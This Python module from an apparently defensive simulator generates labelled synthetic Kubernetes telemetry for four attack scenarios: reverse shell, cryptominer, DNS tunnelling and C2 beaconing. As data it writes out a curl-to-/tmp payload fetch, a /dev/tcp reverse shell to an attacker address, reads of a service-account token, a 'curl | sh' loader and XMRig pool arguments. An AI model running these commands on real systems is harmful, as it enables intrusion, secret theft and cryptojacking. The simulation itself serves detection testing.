"""Attack scenarios, injected into the background at deterministic points of the run.

Each scenario tells one coherent story across gadgets, using the same flows as the
background (so its DNS goes through CoreDNS, its connects pair with closes, its
processes have real parents), and labels every event it causes with its name:

``shell``
    Remote code execution in an nginx pod: ``sh`` spawned by an nginx worker runs
    ``id`` and ``uname``, fetches a script over plain HTTP into ``/tmp`` with
    ``curl``, runs it, and the script opens a reverse shell to a public address on
    port 4444. The attacker then reads the service-account token and asks the API
    server for secrets.
``miner``
    A compromised ingest pod downloads a loader and an XMRig build into
    ``/dev/shm`` under the name ``kswapd0``, resolves a Monero pool (through the
    pod's search list, so NXDOMAINs first), connects on 3333, later adds a TLS pool
    on 14444 (SNI), and reconnects every few minutes.
``dns-tunnel``
    The payments JVM exfiltrates data as a burst of long base32 labels under one
    attacker zone, TXT and A queries, each a CoreDNS cache miss forwarded upstream.
``c2-ip``
    An implant dropped into the IoT bridge beacons to a hard-coded public IP on 443
    every ~30 s with jitter; no DNS answer anywhere explains that address.
"""

from __future__ import annotations

import base64
from collections.abc import Callable

from edgewatch.simulate.cluster import Pod, Process, child_process
from edgewatch.simulate.context import MS, S, Sim
from edgewatch.simulate.internet import ATTACKER_IPS, TUNNEL_DOMAIN
from edgewatch.simulate.kernel import DEFAULT_CONTAINER_CAPS
from edgewatch.simulate.traffic import exec_child

SCENARIOS: tuple[str, ...] = ("shell", "miner", "dns-tunnel", "c2-ip")

#: Where each scenario starts, as a fraction of the events requested.
START_AT: dict[str, float] = {"c2-ip": 0.20, "shell": 0.35, "miner": 0.50, "dns-tunnel": 0.65}

_B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def inject(sim: Sim, name: str, t: int) -> None:
    """Start scenario ``name`` at time ``t``."""
    runners: dict[str, Callable[[Sim, int], None]] = {
        "shell": shell,
        "miner": miner,
        "dns-tunnel": dns_tunnel,
        "c2-ip": c2_ip,
    }
    with sim.labelled(name):
        runners[name](sim, t)


def _pick(sim: Sim, namespace: str, workload: str) -> Pod:
    pods = sim.cluster.pods_of(namespace, workload)
    return pods[sim.rng.randrange(len(pods))]


def _pause(sim: Sim, lo_s: float, hi_s: float) -> int:
    """A human (or scripted) pause between commands."""
    return int(sim.rng.uniform(lo_s, hi_s) * S)


# -- shell ---------------------------------------------------------------------------


def shell(sim: Sim, t: int) -> None:
    pod = _pick(sim, "shop", "web")
    worker = pod.workers[0] if pod.workers else pod.proc()
    payload, revshell = ATTACKER_IPS["payload"], ATTACKER_IPS["reverse_shell"]

    sh = exec_child(sim, worker, t, ["/bin/sh", "-c", "id"])
    exec_child(sim, sh, t + sim.between(1 * MS, 3 * MS), ["id"])

    t += _pause(sim, 4, 15)
    sh = exec_child(sim, worker, t, ["/bin/sh", "-c", "uname -a; cat /etc/passwd"])
    exec_child(sim, sh, t + 2 * MS, ["uname", "-a"])
    cat = exec_child(sim, sh, t + 5 * MS, ["cat", "/etc/passwd"])
    if sim.on("open"):
        sim.emit(t + 6 * MS, sim.factory.open(cat, t + 6 * MS, (cat.pid, cat.comm), "/etc/passwd"))

    t += _pause(sim, 10, 40)
    url = f"http://{payload}/k.sh"
    sh = exec_child(sim, worker, t, ["/bin/sh", "-c", f"curl -fsSL {url} -o /tmp/k.sh"])
    curl = exec_child(sim, sh, t + 2 * MS, ["curl", "-fsSL", url, "-o", "/tmp/k.sh"])
    if sim.on("open"):
        at = t + 3 * MS
        sim.emit(
            at,
            sim.factory.open(
                curl,
                at,
                (curl.pid, curl.comm),
                "/tmp/k.sh",
                ("O_WRONLY", "O_CREAT", "O_TRUNC"),
                4,
                mode=0o644,
            ),
        )
    sim.net.connect(
        curl, t + 4 * MS, payload, 80, duration_ns=sim.between(150 * MS, 600 * MS), rtt_ns=35 * MS
    )

    t += _pause(sim, 5, 20)
    sh = exec_child(sim, worker, t, ["/bin/sh", "-c", "chmod +x /tmp/k.sh && /tmp/k.sh"])
    exec_child(sim, sh, t + 2 * MS, ["chmod", "+x", "/tmp/k.sh"])
    # A shebang script: comm is the script's name, argv the interpreter's (IG >= 0.54).
    script = child_process(sh, "k.sh")
    if sim.on("exec"):
        at = t + 4 * MS
        sim.emit(
            at,
            sim.factory.exec(
                script, at, ["/bin/bash", "/tmp/k.sh"], upper_layer=False, file_upper_layer=True
            ),
        )
    t += 8 * MS
    redirect = exec_child(
        sim, script, t, ["bash", "-c", f"bash -i >& /dev/tcp/{revshell}/4444 0>&1"]
    )
    sim.net.connect(
        redirect,
        t + 1 * MS,
        revshell,
        4444,
        duration_ns=sim.between(20 * 60 * S, 45 * 60 * S),
        rtt_ns=60 * MS,
    )
    interactive = exec_child(sim, redirect, t + 70 * MS, ["bash", "-i"])

    t += _pause(sim, 3, 10)
    exec_child(sim, interactive, t, ["whoami"])
    t += _pause(sim, 5, 25)
    token_path = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    cat = exec_child(sim, interactive, t, ["cat", token_path])
    if sim.on("open"):
        sim.emit(t + 1 * MS, sim.factory.open(cat, t + 1 * MS, (cat.pid, cat.comm), token_path))
    t += _pause(sim, 10, 40)
    curl = exec_child(
        sim,
        interactive,
        t,
        [
            "curl",
            "-sk",
            "-H",
            "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6Ik5xT2VkLWhYc0",
            "https://10.0.0.1/api/v1/namespaces/shop/secrets",
        ],
    )
    sim.net.connect(curl, t + 3 * MS, "10.0.0.1", 443, duration_ns=sim.between(40 * MS, 120 * MS))
    t += _pause(sim, 5, 15)
    exec_child(sim, interactive, t, ["ls", "-la", "/tmp"])


# -- miner ---------------------------------------------------------------------------


def _wallet(sim: Sim) -> str:
    """A Monero address shape: 95 base58 characters starting with 4."""
    return "4" + "".join(_B58[sim.rng.randrange(len(_B58))] for _ in range(94))


def miner(sim: Sim, t: int) -> None:
    pod = _pick(sim, "edge-ingest", "ingest-worker")
    app = pod.proc()
    loader_host = ATTACKER_IPS["miner_loader"]

    sh = exec_child(sim, app, t, ["/bin/sh", "-c", f"curl -fsSL http://{loader_host}/ldr.sh | sh"])
    curl = exec_child(sim, sh, t + 2 * MS, ["curl", "-fsSL", f"http://{loader_host}/ldr.sh"])
    sim.net.connect(
        curl,
        t + 3 * MS,
        loader_host,
        80,
        duration_ns=sim.between(100 * MS, 400 * MS),
        rtt_ns=40 * MS,
    )
    loader = exec_child(sim, sh, t + 3 * MS, ["sh"])

    t += sim.between(500 * MS, 1500 * MS)
    if sim.on("signal"):
        # Loaders kill competing miners first; this one is long gone.
        pid = sim.aux("signal").randint(3000, 60000)
        sim.emit(t, sim.factory.signal(loader, t, pid, "SIGKILL", "ESRCH"))
    exec_child(sim, loader, t + 5 * MS, ["mkdir", "-p", "/dev/shm/.x"])
    t += 20 * MS
    url = f"http://{loader_host}/x86_64"
    dl = exec_child(sim, loader, t, ["curl", "-fsSL", "-o", "/dev/shm/.x/kswapd0", url])
    t = sim.net.connect(
        dl, t + 2 * MS, loader_host, 80, duration_ns=sim.between(1 * S, 4 * S), rtt_ns=40 * MS
    )
    exec_child(sim, loader, t + 10 * MS, ["chmod", "+x", "/dev/shm/.x/kswapd0"])
    t += 30 * MS
    args = [
        "/dev/shm/.x/kswapd0",
        "-o",
        "pool.supportxmr.com:3333",
        "-u",
        _wallet(sim),
        "-p",
        "edge",
        "--donate-level=1",
    ]
    xmrig = exec_child(sim, loader, t, args, from_rootfs=False, upper_layer=False)
    xmrig.threads = tuple(
        (xmrig.pid if i == 0 else xmrig.node.alloc_pid(), "kswapd0") for i in range(4)
    )

    t += sim.between(20 * MS, 60 * MS)
    _msr(sim, xmrig, t)
    t += sim.between(100 * MS, 300 * MS)
    sim.net.call_external(
        xmrig,
        t,
        "pool.supportxmr.com",
        3333,
        tls=False,
        duration_ns=sim.between(8 * 60 * S, 20 * 60 * S),
    )
    t += sim.between(90 * S, 180 * S)
    sim.net.call_external(
        xmrig,
        t,
        "xmr-eu1.nanopool.org",
        14444,
        tls=True,
        duration_ns=sim.between(8 * 60 * S, 20 * 60 * S),
    )

    def reconnect(now: int) -> None:
        with sim.labelled("miner"):
            sim.net.call_external(
                xmrig,
                now,
                "pool.supportxmr.com",
                3333,
                tls=False,
                duration_ns=sim.between(60 * S, 600 * S),
            )
        sim.sched.call(now + sim.between(5 * 60 * S, 10 * 60 * S), reconnect)

    sim.sched.call(t + sim.between(5 * 60 * S, 10 * 60 * S), reconnect)


def _msr(sim: Sim, xmrig: Process, t: int) -> None:
    """XMRig tries to load the msr module and write MSRs; without root both fail."""
    modprobe = exec_child(sim, xmrig, t, ["/sbin/modprobe", "msr", "allow_writes=on"])
    if sim.on("capabilities"):
        at = t + 1 * MS
        sim.emit(
            at,
            sim.factory.capability(
                modprobe,
                at,
                (modprobe.pid, modprobe.comm),
                "SYS_MODULE",
                False,
                "finit_module",
                DEFAULT_CONTAINER_CAPS,
                "cap_capable; security_capable; may_init_module; __do_sys_finit_module; "
                "do_syscall_64; entry_SYSCALL_64_after_hwframe; ",
                sim.aux("capabilities").randint(100, 4000),
            ),
        )
    if sim.on("open"):
        at = t + 3 * MS
        sim.emit(
            at,
            sim.factory.open(
                xmrig, at, (xmrig.pid, xmrig.comm), "/dev/cpu/0/msr", ("O_RDWR",), error="ENOENT"
            ),
        )


# -- dns tunnel ------------------------------------------------------------------------


def _b32_label(sim: Sim, length: int) -> str:
    raw = sim.rng.getrandbits(length * 5 + 8).to_bytes((length * 5 + 15) // 8, "big")
    return base64.b32encode(raw).decode().rstrip("=").lower()[:length]


def dns_tunnel(sim: Sim, t: int) -> None:
    pod = _pick(sim, "payments", "payments-api")
    java = pod.proc()
    thread = (java.node.alloc_pid(), "pool-3-thread-1")
    for seq in range(sim.rng.randint(150, 260)):
        t += sim.between(40 * MS, 350 * MS)
        qtype = "TXT" if sim.rng.random() < 0.7 else "A"
        chunk = _b32_label(sim, 63)
        tail = _b32_label(sim, sim.rng.randint(20, 52))
        name = f"{seq:04x}.{chunk}.{tail}.{TUNNEL_DOMAIN}"
        sim.dns.lookup(java, t, name, (qtype,), thread)


# -- c2 ------------------------------------------------------------------------------


def c2_ip(sim: Sim, t: int) -> None:
    pod = _pick(sim, "iot-gateway", "mqtt-bridge")
    app = pod.proc()
    c2 = ATTACKER_IPS["c2"]
    sh = exec_child(
        sim, app, t, ["/bin/sh", "-c", "/tmp/.cache/dbus-daemon --session >/dev/null 2>&1 &"]
    )
    implant = exec_child(
        sim, sh, t + 3 * MS, ["/tmp/.cache/dbus-daemon", "--session"], upper_layer=True
    )

    def beacon(now: int) -> None:
        with sim.labelled("c2-ip"):
            sim.net.connect(
                implant,
                now,
                c2,
                443,
                duration_ns=sim.between(150 * MS, 600 * MS),
                rtt_ns=sim.between(25 * MS, 60 * MS),
            )
        sim.sched.call(now + int(30 * S * sim.rng.uniform(0.8, 1.2)), beacon)

    sim.sched.call(t + sim.between(1 * S, 3 * S), beacon)
